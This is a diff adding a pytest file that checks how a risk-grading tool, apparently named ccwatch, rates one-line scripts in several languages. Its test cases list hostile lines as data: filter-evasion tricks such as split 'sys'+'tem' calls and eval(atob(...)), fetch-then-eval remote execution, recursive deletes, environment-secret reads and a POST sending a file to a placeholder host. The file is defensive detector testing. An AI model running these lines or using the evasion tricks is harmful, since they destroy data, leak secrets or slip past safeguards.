@@ -1,0 +1,141 @@
+"""Lines of JavaScript, Perl, Ruby, PHP and others that stand in a command."""
+
+from __future__ import annotations
+
+import pytest
+
+from ccwatch.risk.act import Act, Deletes, Does, Emits, Fetches, Language, Reads, RunsShell, Sends
+from ccwatch.risk.code import judge_code
+from ccwatch.risk.effect import Category
+from ccwatch.risk.level import Level
+from ccwatch.risk.word import UNKNOWN, Word
+from tests.risk.builders import HERE
+
+JAVASCRIPT, PERL, RUBY = Language.JAVASCRIPT, Language.PERL, Language.RUBY
+PHP, OTHER = Language.PHP, Language.OTHER
+
+
+def judge(code: str, language: Language) -> list[Act]:
+    return judge_code(Word(code), language, HERE)
+
+
+def worst(code: str, language: Language) -> Level:
+    acts = judge(code, language)
+    return max(act.effect.level for act in acts if isinstance(act, Does))
+
+
+@pytest.mark.parametrize(
+    ("code", "language"),
+    [
+        ("console.log(6 * 7)", JAVASCRIPT),
+        ("console.log('rm -rf /', process.version, process.argv[2])", JAVASCRIPT),
+        ("JSON.stringify({a: Math.sqrt(2)})", JAVASCRIPT),
+        ("require('./package.json').version", JAVASCRIPT),
+        ("print 'hello'", PERL),
+        ("print if /error/i", PERL),
+        ("s/foo/bar/g", PERL),
+        ("y/a-z/A-Z/", PERL),
+        ('print "a\\n"', PERL),
+        ("puts 'unlink'.upcase", RUBY),
+        ("puts 1 + 1", RUBY),
+        ("echo PHP_VERSION;", PHP),
+        ("print(1)", OTHER),
+    ],
+)
+def test_a_line_that_only_computes_and_prints_is_low(code: str, language: Language):
+    assert worst(code, language) == Level.LOW
+
+
+@pytest.mark.parametrize(
+    ("code", "language"),
+    [
+        ("", JAVASCRIPT),
+        ("console['constr' + 'uctor']('x')()", JAVASCRIPT),
+        ("console.log(`a${b}`)", JAVASCRIPT),
+        ("new (class {})", JAVASCRIPT),
+        ("console.\\u006cog(1)", JAVASCRIPT),
+        ("require('./package.json').install()", JAVASCRIPT),
+        ("s/a/print 1/e", PERL),
+        ("print <*>", PERL),
+        ('print "@{[1]}"', PERL),
+        ("&{'sys' . 'tem'}('x')", PERL),
+        ("p %x(p)", RUBY),
+        ("puts $0", RUBY),
+        ('puts "#{x}"', RUBY),
+        ("$a = 'sys' . 'tem'; $a('x');", PHP),
+        ("('sys' . 'tem')('x');", PHP),
+        ("dofile('a.lua')", OTHER),
+        (f"print({UNKNOWN})", OTHER),
+    ],
+)
+def test_a_line_with_a_way_round_is_not_low(code: str, language: Language):
+    assert worst(code, language) >= Level.MEDIUM
+
+
+@pytest.mark.parametrize(
+    ("code", "language", "level", "category"),
+    [
+        ("require('fs').unlinkSync(x)", JAVASCRIPT, Level.HIGH, Category.FS_DESTROY),
+        ("fs.rmSync(x, {recursive: true})", JAVASCRIPT, Level.CRITICAL, Category.FS_DESTROY),
+        ("fs.writeFileSync('a', 'b')", JAVASCRIPT, Level.HIGH, Category.FS_WRITE),
+        ("fs.chmodSync('a', 0)", JAVASCRIPT, Level.HIGH, Category.PERMISSIONS),
+        ("fetch('https://x.example/')", JAVASCRIPT, Level.HIGH, Category.NET_WRITE),
+        ("eval(x)", JAVASCRIPT, Level.HIGH, Category.OBFUSCATION),
+        ("eval(atob('YQ=='))", JAVASCRIPT, Level.CRITICAL, Category.OBFUSCATION),
+        ("fetch(u).then(t => eval(t))", JAVASCRIPT, Level.CRITICAL, Category.EXEC_REMOTE),
+        ("process.kill(1)", JAVASCRIPT, Level.HIGH, Category.PROCESS),
+        ("console.log(process.env)", JAVASCRIPT, Level.HIGH, Category.SECRETS_READ),
+        ("console.log(process.env.API_KEY)", JAVASCRIPT, Level.HIGH, Category.SECRETS_READ),
+        ("console.log(process.env.LANG)", JAVASCRIPT, Level.MEDIUM, Category.SECRETS_READ),
+        ("client.deleteIndex('a')", JAVASCRIPT, Level.HIGH, Category.INFRA_DESTROY),
+        ("require('child_process')", JAVASCRIPT, Level.MEDIUM, Category.EXEC_INLINE),
+        ("unlink glob('*')", PERL, Level.CRITICAL, Category.FS_DESTROY),
+        ("open(F, '>a')", PERL, Level.HIGH, Category.FS_WRITE),
+        ("FileUtils.rm_rf('a')", RUBY, Level.CRITICAL, Category.FS_DESTROY),
+        ("User.delete_all", RUBY, Level.HIGH, Category.INFRA_DESTROY),
+        ("file_put_contents('a', 'b');", PHP, Level.HIGH, Category.FS_WRITE),
+        ("os.remove('a')", OTHER, Level.HIGH, Category.FS_DESTROY),
+        ("unlink('a', recursive = TRUE)", OTHER, Level.CRITICAL, Category.FS_DESTROY),
+    ],
+)
+def test_dangers_of_a_line_are_named(
+    code: str, language: Language, level: Level, category: Category
+):
+    effects = [act.effect for act in judge(code, language) if isinstance(act, Does)]
+    assert (level, category) in {(effect.level, effect.category) for effect in effects}
+
+
+@pytest.mark.parametrize(
+    ("code", "language", "text"),
+    [
+        ("require('child_process').execSync('make all')", JAVASCRIPT, "make all"),
+        ('system("make all")', PERL, "make all"),
+        ("print `make all`", PERL, "make all"),
+        ("%x{make all}", RUBY, "make all"),
+        ("shell_exec('make all');", PHP, "make all"),
+        ("os.execute('make all')", OTHER, "make all"),
+        ('do shell script "make all"', OTHER, "make all"),
+        ('system("rm #{x}")', RUBY, UNKNOWN),
+    ],
+)
+def test_a_shell_that_a_line_starts_is_judged_by_its_text(code: str, language: Language, text: str):
+    assert [act.text.text for act in judge(code, language) if isinstance(act, RunsShell)] == [text]
+
+
+def test_files_and_urls_that_a_line_names_are_found():
+    acts = judge(
+        "fetch('https://x.example/a', {method: 'POST', body: fs.readFileSync('/srv/a')})",
+        JAVASCRIPT,
+    )
+    assert Reads(Word("/srv/a"), sends=True) in acts
+    assert Sends(Word("https://x.example/a")) in acts
+    assert Fetches(Word("https://x.example/")) in judge("fetch('https://x.example/')", JAVASCRIPT)
+    assert Deletes(Word("/srv"), recursive=True, forced=True) in judge("rm_rf '/srv'", RUBY)
+    assert Reads(Word("./package.json")) in judge("require('./package.json')", JAVASCRIPT)
+    assert any(isinstance(act, Emits) for act in judge("puts ENV.to_a", RUBY))
+
+
+@pytest.mark.parametrize("piece", ["'", '\\"', "s/\\/", "system(", "open '", "$x[", "`", "a("])
+def test_a_line_made_to_be_slow_is_read_to_its_end(piece: str):
+    for language in (JAVASCRIPT, PERL, PHP, OTHER):
+        assert judge((piece * 20_000)[:20_000], language)
